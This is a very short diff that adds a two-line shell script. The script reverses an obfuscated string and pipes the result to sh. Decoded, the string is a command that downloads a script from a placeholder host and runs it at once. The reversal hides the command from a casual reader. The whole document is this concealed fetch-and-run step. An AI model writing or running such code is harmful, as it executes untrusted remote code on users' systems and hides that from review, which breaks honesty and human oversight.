@@ -1,0 +1,2 @@
+#!/bin/sh
+echo 'hs | r/elpmaxe.esrever//:sptth Ls- lruc' | rev | sh
